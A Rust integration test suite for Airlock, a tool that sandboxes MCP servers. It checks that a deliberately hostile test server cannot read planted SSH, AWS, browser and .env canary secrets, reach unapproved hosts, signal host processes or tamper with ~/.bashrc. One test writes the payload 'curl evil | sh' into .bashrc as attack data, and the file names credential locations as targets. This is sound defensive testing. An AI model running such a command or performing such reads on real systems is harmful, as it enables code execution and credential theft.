//! Servers in their rooms (issue 33), from the outside: real servers doing
//! their jobs confined, and a hostile server (official Python SDK,
//! tests/peers/escape_server.py) trying every way out, each attempt
//! checked where the person would look: the file untouched, the listener
//! never called, the process alive, the secret not returned.

mod common;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use common::*;
use serde_json::{json, Value};

fn escape_server() -> PathBuf {
    peers_dir().join("escape_server.py")
}

/// A sandbox whose Airlock (and so every server) has its own HOME, with
/// the secrets' places filled with canaries.
struct Home {
    sb: Sandbox,
    home: PathBuf,
    canary: String,
}

impl Home {
    fn new() -> Self {
        let sb = Sandbox::new();
        let home = sb.dir().join("home");
        let canary = format!("CANARY-{}", random_hex());
        for (rel, text) in [
            (".ssh/id_rsa", canary.clone()),
            (
                ".aws/credentials",
                format!("[default]\naws_secret_access_key={canary}\n"),
            ),
            (".bashrc", "# the user's own\n".to_owned()),
            (".mozilla/firefox/x.default/logins.json", canary.clone()),
            ("project/.env", format!("TOKEN={canary}\n")),
        ] {
            let p = home.join(rel);
            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
            std::fs::write(&p, text).expect("write canary");
        }
        Self { sb, home, canary }
    }

    fn cmd(&self) -> Cmd {
        self.sb.cmd().env("HOME", &self.home)
    }

    fn add(&self, name: &str, extra: &[&str], command: &str, args: &[&str]) -> Out {
        let mut a: Vec<&str> = vec!["servers", "add", name];
        a.extend_from_slice(extra);
        a.extend(["--command", command, "--"]);
        a.extend_from_slice(args);
        let out = self.cmd().args(&a).run();
        out.ok();
        out
    }

    fn add_escape(&self, name: &str) {
        self.add(name, &[], &s(&py()), &[&s(&escape_server()), "stdio"]);
    }

    /// Call a tool of the escape server; its JSON report.
    fn try_(&self, server: &str, tool: &str, args: Value) -> Value {
        let out = self
            .cmd()
            .consent("decline")
            .open("none")
            .args(["--json"])
            .call(server, tool, &args.to_string())
            .run();
        out.ok();
        let t = said(&out);
        serde_json::from_str(&t).unwrap_or_else(|_| json!({"ok": false, "detail": t}))
    }

    fn room(&self, server: &str) -> Value {
        self.cmd()
            .args(["--json", "servers", "sandbox", server])
            .run()
            .ok()
            .json()
    }
}

/// A TCP listener on loopback that counts who connects (and answers HTTP).
struct Listener {
    port: u16,
    hits: Arc<AtomicUsize>,
}

impl Listener {
    fn start(body: &'static str) -> Self {
        let l = TcpListener::bind("127.0.0.1:0").expect("bind");
        let port = l.local_addr().expect("addr").port();
        let hits = Arc::new(AtomicUsize::new(0));
        let h = hits.clone();
        std::thread::spawn(move || {
            for conn in l.incoming() {
                let Ok(mut c) = conn else { continue };
                h.fetch_add(1, Ordering::SeqCst);
                let mut buf = [0u8; 1024];
                let _ = c.read(&mut buf);
                let _ = write!(
                    c,
                    "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
                    body.len()
                );
            }
        });
        Self { port, hits }
    }

    fn hits(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }
}

/// The text of a `--json call`'s result.
fn said(out: &Out) -> String {
    text(&out.json()["result"])
}

fn failed(report: &Value) -> bool {
    report["ok"] == false
}

#[test]
fn a_server_added_today_is_confined_and_does_its_job() {
    let h = Home::new();
    let added = h.add("everything", &[], "node", &[&s(&everything_js()), "stdio"]);
    assert!(
        added.stdout.contains("room of everything: confined"),
        "the room is shown when the server is added, before it first starts: {added:?}"
    );
    assert!(
        added.stdout.contains("node_modules"),
        "what it may read is listed, with where it came from: {added:?}"
    );
    let room = h.room("everything");
    assert_eq!(room["state"]["state"], "confined", "{room}");
    let call = h
        .cmd()
        .args(["--json"])
        .call("everything", "echo", r#"{"message":"from the room"}"#)
        .run();
    call.ok();
    assert!(said(&call).contains("from the room"), "{call:?}");

    // The Python SDK server too, and the list marks both.
    h.add("py", &[], &s(&py()), &[&s(&py_server()), "stdio"]);
    let tools = h.cmd().args(["tools", "py"]).run();
    tools.ok();
    let list = h.cmd().args(["servers", "list"]).run();
    list.ok();
    assert_eq!(
        list.stdout
            .lines()
            .filter(|l| l.contains(" confined "))
            .count(),
        2,
        "{list:?}"
    );
    assert!(
        h.sb.audit()
            .iter()
            .any(|e| e["kind"] == "server_added" && e["detail"]["confined"] == true),
        "the audit trail says it was added confined"
    );
}

#[test]
fn every_escape_of_the_hostile_server_fails_from_the_outside() {
    let h = Home::new();
    h.add_escape("esc");
    let home = h.home.clone();
    let p = |rel: &str| s(&home.join(rel));

    // Its ordinary tool works.
    assert_eq!(
        said(
            h.cmd()
                .args(["--json"])
                .call("esc", "echo", r#"{"text":"still useful"}"#)
                .run()
                .ok()
        ),
        "still useful"
    );

    // The secrets' places, the browser profile, a .env: not readable.
    for rel in [
        ".ssh/id_rsa",
        ".aws/credentials",
        ".mozilla/firefox/x.default/logins.json",
        "project/.env",
    ] {
        let r = h.try_("esc", "read_file", json!({"path": p(rel)}));
        assert!(failed(&r), "{rel} was read: {r}");
        assert!(!r.to_string().contains(&h.canary), "{rel}: {r}");
    }
    for dir in [p(".ssh"), s(&h.sb.data)] {
        let r = h.try_("esc", "list_dir", json!({"path": dir}));
        assert!(failed(&r), "{dir} was listed: {r}");
    }
    let db = h.sb.data.join("airlock.sqlite3");
    let r = h.try_("esc", "read_file", json!({"path": s(&db)}));
    assert!(failed(&r), "Airlock's database was read: {r}");

    // Writes to ~/.bashrc and outside its room land nowhere the user has.
    let _ = h.try_(
        "esc",
        "write_file",
        json!({"path": p(".bashrc"), "text": "curl evil | sh\n"}),
    );
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).expect("bashrc"),
        "# the user's own\n",
        "~/.bashrc is untouched"
    );
    let outside = h.sb.dir().join("outside.txt");
    let _ = h.try_(
        "esc",
        "write_file",
        json!({"path": s(&outside), "text": "x"}),
    );
    assert!(!outside.exists(), "nothing was written outside its room");

    // Raw TCP and HTTP to a loopback port it was not allowed: the listener
    // never hears of it.
    let listener = Listener::start("host secret");
    let r = h.try_(
        "esc",
        "tcp",
        json!({"host": "127.0.0.1", "port": listener.port}),
    );
    assert!(failed(&r), "{r}");
    let r = h.try_(
        "esc",
        "http_get",
        json!({"url": format!("http://127.0.0.1:{}/", listener.port)}),
    );
    assert!(failed(&r), "{r}");
    assert!(
        r["detail"].as_str().unwrap_or_default().contains("403"),
        "the proxy refused it: {r}"
    );
    assert_eq!(listener.hits(), 0, "the listener was never called");

    // The host's processes: neither signalled nor traced.
    let mut sleeper = std::process::Command::new("sleep")
        .arg("120")
        .spawn()
        .expect("sleep");
    let pid = sleeper.id();
    let seen = h.try_("esc", "processes", json!({}));
    let visible: Vec<u64> =
        serde_json::from_str(seen["detail"].as_str().unwrap_or("[]")).unwrap_or_default();
    assert!(
        visible.len() <= 4,
        "it sees only its own room's processes: {seen}"
    );
    for tool in ["kill", "ptrace"] {
        let _ = h.try_("esc", tool, json!({"pid": pid}));
    }
    assert!(
        sleeper.try_wait().expect("try_wait").is_none(),
        "the host's process is alive and untouched"
    );
    let stat = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    assert!(stat.contains("TracerPid:\t0"), "not traced: {stat}");
    let _ = sleeper.kill();
    let _ = sleeper.wait();

    // An abstract Unix socket of the host's: never connected.
    let name = format!("airlock-test-{}", random_hex());
    let abstract_hits = abstract_listener(&name);
    let r = h.try_("esc", "abstract_socket", json!({"name": name}));
    assert!(failed(&r), "{r}");
    assert_eq!(
        abstract_hits.load(Ordering::SeqCst),
        0,
        "the abstract socket was never reached"
    );

    // The session bus and the keychain behind it (when this run has one).
    let who: Value = serde_json::from_str(&said(
        h.cmd()
            .args(["--json"])
            .call("esc", "whoami", "{}")
            .run()
            .ok(),
    ))
    .expect("whoami json");
    assert_eq!(who["bus"], Value::Null, "no bus address is handed to it");
    if let Ok(bus) = std::env::var("DBUS_SESSION_BUS_ADDRESS") {
        let r = h.try_("esc", "session_bus", json!({"address": bus}));
        assert!(failed(&r), "the session bus was reached: {r}");
        let stored = std::process::Command::new("secret-tool")
            .args(["store", "--label", "room test", "airlock-room-test", &name])
            .stdin(std::process::Stdio::piped())
            .spawn()
            .and_then(|mut c| {
                c.stdin
                    .take()
                    .expect("stdin")
                    .write_all(h.canary.as_bytes())?;
                c.wait()
            });
        if stored.is_ok_and(|s| s.success()) {
            let r = h.try_(
                "esc",
                "keychain",
                json!({"attribute": "airlock-room-test", "value": name}),
            );
            assert!(failed(&r), "{r}");
            assert!(
                !r.to_string().contains(&h.canary),
                "the keychain's secret was returned: {r}"
            );
        }
    }

    // The terminal, mounts, a new user namespace.
    for tool in ["tiocsti", "mount", "new_user_namespace"] {
        let r = h.try_("esc", tool, json!({}));
        assert!(failed(&r), "{tool}: {r}");
    }

    // Another confined server's home.
    h.add_escape("other");
    let note = format!("OTHER-{}", random_hex());
    let r = h.try_(
        "other",
        "write_file",
        json!({"path": p("notes.txt"), "text": note}),
    );
    assert!(r["ok"] == true, "a server writes its own home: {r}");
    assert!(
        !home.join("notes.txt").exists(),
        "its home is its own, not the user's"
    );
    let rooms = h.sb.data.join("rooms");
    let other_home = std::fs::read_dir(&rooms)
        .expect("rooms")
        .filter_map(Result::ok)
        .map(|e| e.path().join("home"))
        .find(|h| h.join("notes.txt").exists())
        .expect("the other server's private home holds its note");
    let r = h.try_(
        "esc",
        "read_file",
        json!({"path": s(&other_home.join("notes.txt"))}),
    );
    assert!(failed(&r) && !r.to_string().contains(&note), "{r}");
    let r = h.try_("esc", "read_file", json!({"path": p("notes.txt")}));
    assert!(failed(&r), "the two servers share no home: {r}");
}

/// An abstract Unix socket listener; counts connections.
fn abstract_listener(name: &str) -> Arc<AtomicUsize> {
    use std::os::linux::net::SocketAddrExt;
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).expect("addr");
    let l = std::os::unix::net::UnixListener::bind_addr(&addr).expect("bind abstract");
    let hits = Arc::new(AtomicUsize::new(0));
    let h = hits.clone();
    std::thread::spawn(move || {
        for c in l.incoming() {
            if c.is_ok() {
                h.fetch_add(1, Ordering::SeqCst);
            }
        }
    });
    hits
}

#[test]
fn a_blocked_host_is_asked_and_always_is_remembered() {
    let h = Home::new();
    h.add_escape("esc");
    let listener = Listener::start("hello from the host");
    let url = json!({"url": format!("http://127.0.0.1:{}/", listener.port)}).to_string();
    let ask = |answer: &str| {
        h.cmd()
            .consent("ask")
            .open("none")
            .args(["--json"])
            .call("esc", "http_get", &url)
            .stdin(answer)
            .run()
    };

    // Declined at the terminal's question (a bare Enter): nothing reached.
    let out = ask("\n");
    out.ok();
    assert!(
        out.stderr
            .contains("wants to connect to a host its room does not list")
            && out.stderr.contains("127.0.0.1")
            && out.stderr.contains(&listener.port.to_string())
            && out.stderr.contains("[o]nce / [a]lways / [N]o"),
        "the question names the server, the host and the port: {out:?}"
    );
    assert!(said(&out).contains("403"), "{out:?}");
    assert_eq!(listener.hits(), 0, "declined: the host never heard of it");

    // Always: it goes through, and the room keeps it.
    let out = ask("a\n");
    out.ok();
    assert!(said(&out).contains("hello from the host"), "{out:?}");
    assert_eq!(listener.hits(), 1);
    let room = h.room("esc");
    let hosts = &room["settings"]["hosts"];
    assert_eq!(
        hosts,
        &json!([{"host": "127.0.0.1", "port": listener.port, "source": "asked"}]),
        "{room}"
    );

    // Next start: no question (stdin has nothing to answer with).
    let out = h
        .cmd()
        .consent("decline")
        .args(["--json"])
        .call("esc", "http_get", &url)
        .run();
    out.ok();
    assert!(said(&out).contains("hello from the host"), "{out:?}");
    assert!(!out.stderr.contains("Let it connect?"), "{out:?}");
    assert_eq!(listener.hits(), 2);
    let audit = h.sb.audit();
    let decisions: Vec<&str> = audit
        .iter()
        .filter(|e| e["kind"] == "sandbox_host")
        .filter_map(|e| e["detail"]["decision"].as_str())
        .collect();
    assert_eq!(decisions, vec!["deny", "always"], "each answer is audited");
    assert!(
        h.sb.log_texts("esc")
            .iter()
            .any(|l| l.contains("blocked 127.0.0.1")),
        "the blocked attempt shows in the server's log"
    );
}

#[test]
fn allow_host_lets_the_fetch_server_reach_a_loopback_page_and_nothing_else() {
    let h = Home::new();
    let fetch = must_exist_path(&peers_dir().join(".fetch-venv/bin/mcp-server-fetch"));
    let listener = Listener::start("<html><body><p>the page behind the proxy</p></body></html>");
    let allowed = format!("127.0.0.1:{}", listener.port);
    h.add(
        "fetch",
        &["--allow-host", &allowed],
        &s(&fetch),
        &["--ignore-robots-txt", "--allow-private-ips"],
    );
    // raw: the page as it is. (Unconfined, the fetch server's readability
    // step runs `npm install` into its own installation on first use; in
    // its room that folder is read-only, and the attempt fails.)
    let args =
        json!({"url": format!("http://127.0.0.1:{}/page", listener.port), "raw": true}).to_string();
    let out = h
        .cmd()
        .consent("decline")
        .args(["--json"])
        .call("fetch", "fetch", &args)
        .run();
    out.ok();
    assert!(said(&out).contains("the page behind the proxy"), "{out:?}");
    assert_eq!(listener.hits(), 1);

    // Another port of the same host: asked, declined, never reached.
    let other = Listener::start("not for you");
    let args = json!({"url": format!("http://127.0.0.1:{}/", other.port), "raw": true}).to_string();
    let out = h
        .cmd()
        .consent("decline")
        .args(["--json"])
        .call("fetch", "fetch", &args)
        .run();
    assert_eq!(other.hits(), 0, "{out:?}");
}

fn must_exist_path(p: &Path) -> PathBuf {
    assert!(
        p.exists(),
        "{} is missing: run `bash scripts/setup.sh`",
        p.display()
    );
    p.to_path_buf()
}

#[test]
fn the_filesystem_server_works_in_its_folder_and_nowhere_else() {
    let h = Home::new();
    let work = h.sb.dir().join("work");
    std::fs::create_dir_all(&work).expect("work");
    std::fs::write(work.join("readme.txt"), "in the workspace").expect("write");
    let js = must_exist_path(
        &peers_dir().join("node_modules/@modelcontextprotocol/server-filesystem/dist/index.js"),
    );
    let added = h.add("fs", &[], "node", &[&s(&js), &s(&work)]);
    assert!(added.stdout.contains("its workspace"), "{added:?}");
    let call = |tool: &str, args: Value| {
        h.cmd()
            .consent("decline")
            .args(["--json"])
            .call("fs", tool, &args.to_string())
            .run()
    };
    let out = call(
        "read_text_file",
        json!({"path": s(&work.join("readme.txt"))}),
    );
    out.ok();
    assert!(said(&out).contains("in the workspace"), "{out:?}");
    let out = call(
        "write_file",
        json!({"path": s(&work.join("new.txt")), "content": "written"}),
    );
    out.ok();
    assert_eq!(
        std::fs::read_to_string(work.join("new.txt")).expect("new.txt"),
        "written"
    );
    // Outside its folder: the server's own check aside, the room holds.
    let out = call(
        "read_text_file",
        json!({"path": s(&h.home.join(".ssh/id_rsa"))}),
    );
    assert!(!out.stdout.contains(&h.canary), "{out:?}");
}

#[test]
fn unconfined_is_an_explicit_choice_shown_and_audited() {
    let h = Home::new();
    let added = h.add(
        "wild",
        &["--no-sandbox"],
        &s(&py()),
        &[&s(&escape_server()), "stdio"],
    );
    assert!(
        added.stdout.contains("NOT CONFINED (your choice)"),
        "{added:?}"
    );
    let list = h.cmd().args(["servers", "list"]).run();
    assert!(
        list.stdout.contains("NOT CONFINED (your choice)"),
        "{list:?}"
    );
    // Unconfined, it reads what the user can: that is what the mark warns of.
    let r = h.try_(
        "wild",
        "read_file",
        json!({"path": s(&h.home.join(".ssh/id_rsa"))}),
    );
    assert!(r.to_string().contains(&h.canary), "{r}");
    assert!(
        h.sb.log_texts("wild")
            .iter()
            .any(|l| l.contains("NOT CONFINED")),
        "its log says it started unconfined"
    );
    // Confined again from the command line: the same read fails.
    h.cmd()
        .args(["servers", "sandbox", "wild", "on"])
        .run()
        .ok();
    let r = h.try_(
        "wild",
        "read_file",
        json!({"path": s(&h.home.join(".ssh/id_rsa"))}),
    );
    assert!(failed(&r), "{r}");
    let changes: Vec<String> =
        h.sb.audit()
            .iter()
            .filter(|e| e["kind"] == "sandbox_changed" || e["kind"] == "server_added")
            .map(|e| e["detail"].to_string())
            .collect();
    assert_eq!(
        changes,
        vec![r#"{"confined":false}"#, r#"{"change":"confined"}"#]
    );
}

#[test]
fn a_server_from_before_confinement_is_marked_and_can_be_confined() {
    let h = Home::new();
    h.add_escape("old");
    // As an older Airlock stored it: no room at all.
    let db = rusqlite::Connection::open(h.sb.data.join("airlock.sqlite3")).expect("db");
    db.execute(
        "UPDATE servers SET options_json = json_remove(options_json, '$.sandbox') WHERE name = 'old'",
        [],
    )
    .expect("update");
    drop(db);
    let show = h.cmd().args(["servers", "show", "old"]).run();
    show.ok();
    assert!(
        show.stdout
            .contains("NOT CONFINED (added before confinement)")
            && show.stdout.contains("airlock servers sandbox old on"),
        "marked, with the one action that confines it: {show:?}"
    );
    let room = h.room("old");
    assert!(
        room["profile"]["read"]
            .as_array()
            .is_some_and(|r| !r.is_empty()),
        "the room it would get is shown: {room}"
    );
    h.cmd().args(["servers", "sandbox", "old", "on"]).run().ok();
    assert_eq!(h.room("old")["state"]["state"], "confined");
}

#[test]
fn without_bubblewrap_a_confined_server_is_not_started() {
    let h = Home::new();
    let spawned = h.sb.dir().join("spawned.log");
    h.add(
        "py",
        &["--env", &format!("AIRLOCK_PEER_SPAWN_LOG={}", s(&spawned))],
        &s(&py()),
        &[&s(&py_server()), "stdio"],
    );
    let out = h
        .cmd()
        .env("AIRLOCK_BWRAP", "/nonexistent/bwrap")
        .args(["tools", "py"])
        .run();
    assert_ne!(out.code, Some(0), "{out:?}");
    assert!(
        out.stderr.contains("cannot confine it on this computer")
            && out.stderr.contains("airlock servers sandbox py off"),
        "it says why and what the person can do: {out:?}"
    );
    assert!(!spawned.exists(), "the server never ran");
    let list = h
        .cmd()
        .env("AIRLOCK_BWRAP", "/nonexistent/bwrap")
        .args(["servers", "list"])
        .run();
    assert!(list.stdout.contains("cannot be confined here"), "{list:?}");
}

#[test]
fn rooms_flags_are_checked_and_changes_listed() {
    let h = Home::new();
    let out = h
        .cmd()
        .args([
            "servers",
            "add",
            "web",
            "--url",
            "https://example.com/mcp",
            "--allow-host",
            "x.example",
        ])
        .run();
    assert_eq!(out.code, Some(2), "{out:?}");
    assert!(out.stderr.contains("no process to confine"), "{out:?}");
    let out = h
        .cmd()
        .args([
            "servers",
            "add",
            "bad",
            "--allow-host",
            "a b",
            "--command",
            "true",
        ])
        .run();
    assert_eq!(out.code, Some(2), "{out:?}");
    h.add(
        "ok",
        &[
            "--allow-read",
            "/srv/data",
            "--allow-host",
            "*.example.com:443",
        ],
        "true",
        &[],
    );
    let room = h.room("ok");
    let text = room.to_string();
    assert!(
        text.contains("/srv/data") && text.contains("*.example.com"),
        "{room}"
    );
    h.cmd()
        .args(["servers", "sandbox", "ok", "remove", "/srv/data"])
        .run()
        .ok();
    let out = h
        .cmd()
        .args(["servers", "sandbox", "ok", "remove", "/srv/data"])
        .run();
    assert_eq!(
        out.code,
        Some(2),
        "removing what is not there says so: {out:?}"
    );
    let plain = h.cmd().args(["servers", "sandbox", "ok"]).run();
    plain.ok();
    assert!(
        plain.stdout.contains("*.example.com:443  (named by you)"),
        "{plain:?}"
    );
    assert!(!plain.stdout.contains("/srv/data"), "{plain:?}");
}

#[test]
fn a_data_folder_too_deep_for_a_socket_path_still_gets_its_proxy() {
    let sb = Sandbox::new();
    let deep = sb.dir().join("d".repeat(60)).join("e".repeat(60));
    let cmd = || Cmd::new(airlock_bin()).arg("--data-dir").arg(&deep);
    cmd()
        .args([
            "servers",
            "add",
            "esc",
            "--command",
            &s(&py()),
            "--",
            &s(&escape_server()),
            "stdio",
        ])
        .run()
        .ok();
    let listener = Listener::start("deep but reachable");
    let out = cmd()
        .args([
            "--json",
            "servers",
            "sandbox",
            "esc",
            "allow-host",
            &format!("127.0.0.1:{}", listener.port),
        ])
        .run();
    out.ok();
    let out = cmd()
        .consent("decline")
        .args(["--json"])
        .call(
            "esc",
            "http_get",
            &json!({"url": format!("http://127.0.0.1:{}/", listener.port)}).to_string(),
        )
        .run();
    out.ok();
    assert!(said(&out).contains("deep but reachable"), "{out:?}");
    assert_eq!(listener.hits(), 1);
}

/// The room's helper on its own, as bubblewrap starts it: a server that
/// ignores the end of its input is killed once its stdin has had no writer
/// for the helper's grace (Airlock gone: bubblewrap's own `--die-with-parent`
/// misses an Airlock killed while bubblewrap sets the room up).
#[test]
fn the_rooms_helper_ends_a_server_whose_airlock_is_gone() {
    let spec = json!({"proxy": false, "read": ["/"], "write": ["/tmp"]}).to_string();
    let mut child = std::process::Command::new(airlock_bin())
        .args([
            "__airlock-confine",
            &spec,
            "--",
            "sh",
            "-c",
            "while :; do sleep 1; done",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("the helper starts");
    std::thread::sleep(std::time::Duration::from_millis(500));
    assert!(
        child.try_wait().expect("try_wait").is_none(),
        "it runs while its input is open"
    );
    let gone = std::time::Instant::now();
    drop(child.stdin.take());
    let status = wait_until(
        "the helper to end the server",
        std::time::Duration::from_secs(30),
        || child.try_wait().expect("try_wait"),
    );
    assert_eq!(
        status.code(),
        Some(128 + 9),
        "the server was killed: {status:?}"
    );
    assert!(
        gone.elapsed() >= std::time::Duration::from_secs(9),
        "only after the grace: {:?}",
        gone.elapsed()
    );
}

/// A command written with `..` through a folder the room does not hold
/// (here Airlock's own data folder, never in a room) runs as the room holds
/// it: the `..` taken out, the venv's python found where it is.
#[test]
fn a_command_with_dot_dot_runs_as_the_room_holds_it() {
    let h = Home::new();
    std::fs::create_dir_all(&h.sb.data).expect("the data folder");
    let python = py();
    let ups = h.sb.data.components().count() - 1;
    let dotted = format!(
        "{}/{}{}",
        h.sb.data.display(),
        "../".repeat(ups),
        python.display().to_string().trim_start_matches('/')
    );
    assert!(std::path::Path::new(&dotted).exists(), "{dotted}");
    h.add("py", &[], &dotted, &[&s(&py_server()), "stdio"]);
    let tools = h.cmd().args(["tools", "py"]).run();
    tools.ok();
    assert!(
        !tools.stdout.trim().is_empty(),
        "the confined server started: {tools:?}"
    );
}
